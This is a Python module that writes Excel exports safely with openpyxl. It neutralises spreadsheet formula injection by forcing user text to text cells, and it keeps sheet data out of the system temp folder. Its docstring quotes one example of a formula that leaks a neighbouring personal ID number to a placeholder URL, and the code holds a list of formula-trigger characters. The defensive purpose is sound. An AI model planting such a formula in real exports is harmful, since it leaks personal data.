"""Writing every workbook the app makes: user text stays text, and no sheet passes through the system temp folder.

Two dangers of openpyxl, met here once for every export:

* A text that begins with "=" becomes a live formula (``=HYPERLINK("http://…?d="&C4, …)`` reading the
  personnummer beside it), "#N/A" an error value, and Excel turns text beginning with + - @ (or a tab or CR)
  into a formula as soon as the cell is edited. `save_workbook` writes every such text as text with Excel's
  quote prefix. The app's own formulas are written with `formula()`; only those stay formulas.
* openpyxl writes each sheet's XML, every text in clear, to a file in the system temp folder, where a killed
  process leaves it. Here a sheet is written in memory, and a streamed sheet (`StreamingSheet`, for exports of
  thousands of rows) into a file in a folder the caller chooses: beside the destination.

openpyxl is imported inside the functions: it costs time at start-up (DESIGN.md).
"""
from __future__ import annotations

import io
import os
import tempfile
import weakref
from collections.abc import Iterable
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any, overload

if TYPE_CHECKING:
    from zipfile import ZipFile

    from openpyxl import Workbook
    from openpyxl.cell import Cell
    from openpyxl.styles import Font
    from openpyxl.worksheet.worksheet import Worksheet
    from openpyxl.writer.excel import ExcelWriter

# Excel starts a formula with = + - @; a tab or CR in front is dropped when the cell is edited (OWASP CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# worksheet → {(row, column)} of app formulas; workbook → [file of a streamed sheet]
_FORMULAS: weakref.WeakKeyDictionary[Worksheet, set[tuple[int, int]]] = weakref.WeakKeyDictionary()
_SCRATCH: weakref.WeakKeyDictionary[Workbook, list[str]] = weakref.WeakKeyDictionary()


def risky(value: Any) -> bool:
    """A text that Excel would (or could, once edited) read as a formula, or openpyxl as an error value."""
    return isinstance(value, str) and (value.startswith(FORMULA_STARTS) or value.startswith("#"))


def new_workbook() -> tuple[Workbook, Worksheet]:
    """A workbook and its first sheet."""
    from openpyxl import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

    wb = Workbook()
    ws = wb.active
    assert isinstance(ws, Worksheet)  # a new workbook's only sheet
    return wb, ws


def bold() -> Font:
    from openpyxl.styles import Font

    return Font(bold=True)


def as_text(cell: Cell) -> None:
    """Make a cell that holds text a text cell, shown as typed and never evaluated, even after an edit."""
    from openpyxl.cell.rich_text import CellRichText

    value = cell.value
    if not isinstance(value, str) or isinstance(value, CellRichText):
        return
    if cell.data_type in ("f", "e"):  # openpyxl's guess for "=…" and "#N/A"
        cell.data_type = "s"
    if value.startswith(FORMULA_STARTS):
        cell.quotePrefix = True


def formula(ws: Worksheet, row: int, column: int, text: str) -> Cell:
    """One of the app's own formulas (a sum, a difference): the only cells `save_workbook` leaves as formulas."""
    if not text.startswith("="):
        raise ValueError(f"A formula starts with '=': {text!r}")
    cell = ws.cell(row=row, column=column, value=text)
    _FORMULAS.setdefault(ws, set()).add((row, column))
    return cell


def _make_text_safe(wb: Workbook) -> None:
    for ws in wb.worksheets:
        if getattr(ws, "_cells", None) is None:  # a streamed sheet: its cells were made safe when appended
            continue
        own = _FORMULAS.get(ws, set())
        for (row, column), cell in ws._cells.items():
            if isinstance(cell.value, str) and (row, column) not in own:
                as_text(cell)


class StreamingSheet:
    """A write-only sheet for many rows: each row goes straight to a file in `folder` (never the system temp
    folder), and user text is made text as it is appended. Make it with `streaming_sheet`."""

    def __init__(self, wb: Workbook, title: str, folder: Path):
        from openpyxl.worksheet._writer import WorksheetWriter

        self.ws = wb.create_sheet(title)
        fd, name = tempfile.mkstemp(prefix=".finsamdesk-", suffix=".xml.tmp", dir=folder)
        os.close(fd)
        _SCRATCH.setdefault(wb, []).append(name)
        self.ws._writer = WorksheetWriter(self.ws, out=name)  # instead of openpyxl's own file in the temp folder
        self.ws._writer.write_top()

    def cell(self, value: Any, *, font: Font | None = None, number_format: str | None = None) -> Cell:
        """A cell to append, with its style."""
        from openpyxl.cell import WriteOnlyCell

        cell = WriteOnlyCell(self.ws, value=value)
        as_text(cell)
        if font is not None:
            cell.font = font
        if number_format is not None:
            cell.number_format = number_format
        return cell

    def append(self, values: Iterable[Any]) -> None:
        self.ws.append([self.cell(v) if risky(v) else v for v in values])


def streaming_sheet(wb: Workbook, title: str, folder: str | Path) -> StreamingSheet:
    """A sheet of a `Workbook(write_only=True)` whose rows are written to a scratch file in `folder`;
    `save_workbook` removes the file, also when it fails."""
    return StreamingSheet(wb, title, Path(folder))


@overload
def save_workbook(wb: Workbook, out: None = None) -> bytes: ...
@overload
def save_workbook(wb: Workbook, out: IO[bytes]) -> None: ...
def save_workbook(wb: Workbook, out: IO[bytes] | None = None) -> bytes | None:
    """Write the workbook as .xlsx: into `out`, or (None) return the bytes. Every export ends here."""
    from zipfile import ZIP_DEFLATED, ZipFile

    target: IO[bytes] = io.BytesIO() if out is None else out
    try:
        _make_text_safe(wb)
        with ZipFile(target, "w", ZIP_DEFLATED, allowZip64=True) as archive:
            _writer(wb, archive).save()
    finally:
        for name in _SCRATCH.pop(wb, []):
            Path(name).unlink(missing_ok=True)
    return target.getvalue() if isinstance(target, io.BytesIO) and out is None else None


def _writer(wb: Workbook, archive: ZipFile) -> ExcelWriter:
    """openpyxl's ExcelWriter with each sheet written in memory (or from its streamed file), not via a temp file."""
    from openpyxl.drawing.spreadsheet_drawing import SpreadsheetDrawing
    from openpyxl.worksheet._writer import WorksheetWriter
    from openpyxl.writer.excel import ExcelWriter

    class Writer(ExcelWriter):
        def write_worksheet(self, ws: Any) -> None:  # Worksheet, or a write-only one
            ws._drawing = SpreadsheetDrawing()
            ws._drawing.charts = ws._charts
            ws._drawing.images = ws._images
            if self.workbook.write_only:
                if ws._writer is None:
                    raise ValueError("A write-only sheet must be made with streaming_sheet().")
                if not ws.closed:
                    ws.close()
                writer = ws._writer
                self._archive.write(writer.out, ws.path[1:])  # type: ignore[attr-defined]
            else:
                buffer = io.BytesIO()
                writer = WorksheetWriter(ws, out=buffer)
                writer.write()
                self._archive.writestr(ws.path[1:], buffer.getvalue())  # type: ignore[attr-defined]
            ws._rels = writer._rels
            self.manifest.append(ws)

    return Writer(wb, archive)
